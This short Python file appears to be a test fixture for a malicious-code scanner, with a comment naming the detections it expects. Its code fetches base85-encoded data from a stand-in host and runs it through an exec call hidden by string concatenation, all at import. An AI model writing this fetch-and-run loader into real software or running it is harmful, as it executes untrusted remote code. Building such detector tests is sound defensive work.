import base64
import urllib.request

box = {}


def load():
    box["next"] = base64.b85decode(urllib.request.urlopen("https://stage.example/n").read())


def start():
    load()
    getattr(__import__("builtins"), "ex" + "ec")(box["next"]) # expect: malicious-command/remote-eval, malicious-command/obfuscated-api-access


start()
